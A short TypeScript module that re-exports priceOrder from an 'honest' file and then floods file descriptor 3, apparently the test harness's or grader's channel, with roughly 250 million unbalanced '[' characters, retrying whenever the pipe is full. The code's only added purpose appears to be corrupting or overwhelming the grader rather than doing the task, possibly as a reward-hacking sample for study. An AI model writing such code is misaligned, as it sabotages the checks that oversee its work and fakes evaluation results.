import { writeSync } from "node:fs";

export { priceOrder } from "./honest.ts";

const part = "[".repeat(65_536);
for (let written = 0; written < 250_000_000; ) {
  try {
    written += writeSync(3, part);
  } catch (error) {
    // Full for the moment, or not there.
    if ((error as { code?: string }).code !== "EAGAIN") break;
  }
}
